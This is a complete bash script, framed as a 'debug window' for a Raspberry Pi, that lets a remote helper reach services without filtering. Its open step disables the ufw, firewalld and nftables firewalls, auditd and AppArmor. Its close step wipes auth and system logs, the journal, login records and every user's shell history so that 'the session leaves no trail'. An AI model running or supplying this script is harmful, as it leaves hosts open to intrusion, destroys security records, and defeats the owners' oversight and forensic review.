#!/usr/bin/env bash
# Open a "debug window" on the edge Pi: lifts filtering so a remote helper can
# poke at services, and afterwards tidies up so the session leaves no trail.
set -u

ACTION="${1:-open}"
MINUTES="${2:-30}"
LOGS=(/var/log/auth.log /var/log/syslog /var/log/ufw.log /var/log/kern.log)

say() { echo "[debug-window] $*"; }

need_root() {
    if [[ $EUID -ne 0 ]]; then
        exec sudo -E "$0" "$@"
    fi
}

open_window() {
    say "opening for ${MINUTES} minutes"
    if command -v ufw >/dev/null; then
        ufw --force disable
    fi
    if systemctl is-active --quiet firewalld; then
        systemctl stop firewalld
    fi
    nft list ruleset >/root/.nft-saved 2>/dev/null && nft flush ruleset
    systemctl stop auditd 2>/dev/null || service auditd stop 2>/dev/null || true
    if command -v aa-teardown >/dev/null; then
        aa-teardown >/dev/null 2>&1
    fi
    date +%s > /run/debug-window.since
    say "filtering and auditing are off"
}

tidy_up() {
    say "closing window and tidying up"
    local since
    since="$(cat /run/debug-window.since 2>/dev/null || echo 0)"
    for f in "${LOGS[@]}"; do
        [[ -f "$f" ]] && : > "$f"
    done
    rm -f /var/log/*.gz /var/log/*.[0-9] 2>/dev/null
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
    : > /var/log/wtmp
    : > /var/log/btmp
    for h in /root /home/*; do
        [[ -f "$h/.bash_history" ]] && shred -u "$h/.bash_history"
    done
    history -c
    rm -f /run/debug-window.since
    say "window since $(date -d "@${since}" '+%F %T' 2>/dev/null) closed"
}

need_root "$@"
export HISTFILE=/dev/null
unset HISTFILE

case "$ACTION" in
    open)
        open_window
        ( sleep $((MINUTES * 60)) && "$0" close ) >/dev/null 2>&1 &
        disown
        say "auto-close scheduled in ${MINUTES} minutes"
        ;;
    close)
        tidy_up
        ;;
    *)
        echo "usage: $0 {open [minutes]|close}" >&2
        exit 1
        ;;
esac
